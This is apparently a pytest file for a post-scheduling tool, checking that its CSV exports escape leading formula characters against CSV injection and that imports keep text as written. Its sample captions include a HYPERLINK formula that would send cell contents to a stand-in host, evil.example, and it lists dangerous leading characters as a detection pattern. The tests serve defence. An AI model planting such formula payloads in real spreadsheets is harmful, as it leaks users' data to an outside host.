"""A spreadsheet carries out nothing that a colleague wrote, and an import takes it as written.

The dangerous beginnings are those of OWASP, "CSV Injection"
(owasp.org/www-community/attacks/CSV_Injection).
"""

import csv
import io
import json
import random
import re
from pathlib import Path

from command_line import CommandLine
from plans import posts_of, write_plan

from goldenhour import Client
from goldenhour.spoken.cells import guard, unguard

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
WRITTEN = (
    '=HYPERLINK("http://evil.example/?"&A1,"Prices") of sheet',
    "+49 30 1234567 is our number, sheet",
    "-20 % today, sheet",
    "@ada@bakery.example baked this, sheet",
    "'=SUM(A1) stays as it is, sheet",
    "'Tis the season, sheet",
    "Plain = sheet",
    "Rye; -20 % today\n- sheet;=HYPERLINK(A1)\n\n@ada baked it;'+1",
)


def test_no_cell_of_the_commands_csv_is_a_formula(planned: Client, importer: CommandLine) -> None:
    account = {each.platform: each.id for each in planned.accounts.list()}["linkedin"]
    for caption in WRITTEN:
        planned.posts.create(targets=[account], caption=caption)

    sheets = [importer("list", "--search", "sheet", "--csv"), importer("export", "--format", "csv")]

    for sheet in sheets:
        rows = [*csv.DictReader(io.StringIO(sheet.out, newline=""))]
        captions = {row["caption"] for row in rows}
        assert {guard(text) for text in WRITTEN} <= captions
        assert not any(cell.startswith(DANGEROUS) for row in rows for cell in row.values())
        assert not any(cell.startswith(DANGEROUS) for cell in _cells_of_excel_in_europe(sheet.out))
        assert "'=HYPERLINK" in sheet.out
    lines = importer("export").out.splitlines()
    assert set(WRITTEN) <= {json.loads(line)["post"]["caption"] for line in lines}


def _cells_of_excel_in_europe(sheet: str) -> list[str]:
    """Return the cells of a sheet whose cells are divided by semicolons where it is opened."""
    rows = csv.reader(io.StringIO(sheet, newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def test_an_import_takes_a_text_as_it_was_written(
    planned: Client, importer: CommandLine, tmp_path: Path
) -> None:
    rows = [{"to": "bluesky", "caption": str(guard(f"{text} again"))} for text in WRITTEN]
    write_plan(tmp_path / "sheet.csv", rows)

    ended = importer("import", "sheet.csv", "--go")

    assert 0 == ended.status, ended.err
    assert {f"{text} again": 1 for text in WRITTEN} == posts_of(planned, "again")


def test_whatever_was_written_comes_back() -> None:
    chance = random.Random(47)
    signs = "'=+-@\t\r\n;\uff1d aé🍞"

    for _ in range(20_000):
        text = "".join(chance.choices(signs, k=chance.randrange(9)))
        cell = str(guard(text))
        begins = [part for part in re.split("[;\r\n]", cell) if part]
        assert (unguard(cell), any(map(_is_formula, begins))) == (text, False)


def _is_formula(cell: str) -> bool:
    return cell.startswith((*DANGEROUS, "\uff1d"))
